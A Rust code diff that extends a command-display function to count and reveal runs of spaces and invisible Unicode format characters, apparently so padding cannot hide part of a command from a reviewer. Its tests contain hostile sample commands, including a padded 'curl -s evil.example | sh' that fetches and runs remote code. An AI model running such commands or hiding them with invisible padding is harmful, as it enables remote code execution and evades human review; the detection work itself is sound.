@@ -28,12 +28,26 @@ pub fn is_unsafe(c: char) -> bool {
 /// U+FE00..U+FE0F, U+FEFF, U+FFA0, U+1D173..U+1D17A, U+E0000..U+E0FFF) and
 /// U+2800 (BRAILLE PATTERN BLANK, drawn as a blank).
 pub fn is_blank_looking(c: char) -> bool {
+    use unicode_general_category::{GeneralCategory as G, get_general_category};
     (c.is_whitespace() && c != ' ')
+        // Every format character (Cf: the bidirectional and zero-width
+        // controls, U+FFF9..FFFB, U+1BCA0.., U+13430..), every separator
+        // but the space, and what the list below adds.
+        || (c != ' ' && matches!(
+            get_general_category(c),
+            G::Format | G::SpaceSeparator | G::LineSeparator | G::ParagraphSeparator
+        ))
         || matches!(c,
             '\u{00AD}' | '\u{034F}' | '\u{115F}' | '\u{1160}' | '\u{17B4}' | '\u{17B5}'
             | '\u{180B}'..='\u{180F}' | '\u{200B}'..='\u{200F}' | '\u{2060}'..='\u{206F}'
             | '\u{2800}' | '\u{3164}' | '\u{FE00}'..='\u{FE0F}' | '\u{FEFF}' | '\u{FFA0}'
             | '\u{1D173}'..='\u{1D17A}' | '\u{E0000}'..='\u{E0FFF}')
+}
+
+/// Whether `c` belongs in a run of blanks [`visible`] may collapse: the
+/// space and every character that draws nothing visible by itself.
+fn is_blank_run(c: char) -> bool {
+    c == ' ' || (!matches!(c, '\n' | '\t' | '\r') && (is_unsafe(c) || is_blank_looking(c)))
 }
 
 /// The longest run of spaces [`visible`] shows as spaces; a longer run
@@ -48,15 +62,29 @@ pub fn visible_pieces(text: &str) -> Vec<(String, usize)> {
     let mut pieces: Vec<(String, usize)> = Vec::new();
     let mut chars = text.chars().peekable();
     while let Some(c) = chars.next() {
-        if c == ' ' {
-            let mut run = 1;
-            while chars.next_if_eq(&' ').is_some() {
-                run += 1;
+        if is_blank_run(c) {
+            // A run of spaces and characters that draw nothing: shown as
+            // it is when short, else counted, so that neither padding nor
+            // invisible characters between shorter runs of spaces push the
+            // rest of a command out of sight.
+            let mut run = vec![c];
+            while let Some(next) = chars.next_if(|n| is_blank_run(*n)) {
+                run.push(next);
             }
-            if run > MAX_SPACE_RUN {
-                pieces.push((format!("[{run} spaces]"), run));
+            let spaces = run.iter().filter(|c| **c == ' ').count();
+            let others = run.len() - spaces;
+            if run.len() > MAX_SPACE_RUN {
+                let shown = match (spaces, others) {
+                    (_, 0) => format!("[{spaces} spaces]"),
+                    (0, _) => format!("[{others} invisible characters]"),
+                    _ => format!("[{spaces} spaces and {others} invisible characters]"),
+                };
+                pieces.push((shown, run.len()));
             } else {
-                pieces.push((" ".repeat(run), run));
+                for c in run {
+                    let shown = if c == ' ' { " ".to_owned() } else { format!("\\u{:04x}", u32::from(c)) };
+                    pieces.push((shown, 1));
+                }
             }
             continue;
         }
@@ -151,6 +179,18 @@ mod tests {
         assert_eq!(visible(&" ".repeat(MAX_SPACE_RUN)), " ".repeat(MAX_SPACE_RUN));
         assert_eq!(visible(&format!("ls{}; rm x", " ".repeat(3000))), "ls[3000 spaces]; rm x");
         assert_eq!(visible("plain ünïcode"), "plain ünïcode");
+        // Format characters outside any list, between runs of spaces too
+        // short to collapse one by one (the second review's command).
+        let padded = format!(
+            "ls{}{}; curl -s evil.example | sh",
+            format!("{}\u{FFFB}", " ".repeat(16)).repeat(300),
+            format!("{}\u{1BCA0}", " ".repeat(16)).repeat(100)
+        );
+        assert_eq!(
+            visible(&padded),
+            "ls[6400 spaces and 400 invisible characters]; curl -s evil.example | sh"
+        );
+        assert_eq!(visible("a\u{0600}\u{13430}b"), "a\\u0600\\u13430b");
     }
 
     #[test]
